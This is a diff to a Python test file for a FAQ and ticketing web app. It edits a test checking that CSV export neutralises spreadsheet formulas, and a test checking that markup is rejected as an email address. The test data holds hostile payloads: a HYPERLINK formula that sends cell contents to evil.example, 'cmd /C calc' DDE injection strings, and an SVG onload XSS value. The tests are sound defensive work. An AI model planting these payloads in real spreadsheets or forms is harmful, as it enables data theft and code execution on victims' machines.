@@ -139,7 +139,7 @@ def test_csv_export_neutralises_formulas_and_round_trips(stack: Stack) -> None:
     hostile = {
         "id": "security-csv-formula", "category": "security", "status": "draft",
         "question": "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
-        "answer": "+cmd|' /C calc'!A0", "paraphrases": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=1+1"],
+        "answer": "+cmd|' /C calc'!A0", "paraphrases": ["@SUM(1+1)*cmd' /C calc'!A0", "-2+3", "=1+1"],
         "tags": ["'=already quoted"],
     }
     created = stack.http.post("/api/editor/faqs", json=hostile, headers=headers)
@@ -180,7 +180,7 @@ def test_search_wildcards_are_literal(stack: Stack) -> None:
 
 # -- ticket contacts -------------------------------------------------------------------------
 @pytest.mark.parametrize("value", ['"><svg/onload=alert(1)>@e.com', "a@b.com<script>", "a b@c.com", "a..b@c.com", "a@-c.com",
-                                   "a@c", "a@c.1x", "(x)@e.com", "a@e.com\n", "@e.com", "a@"])
+                                   "a@c", "a@c.1x", "(x)@e.com", "a@e.com\n<b>", "@e.com", "a@"])
 def test_markup_is_not_an_email(value: str) -> None:
     assert clean_contact(value) is None
 
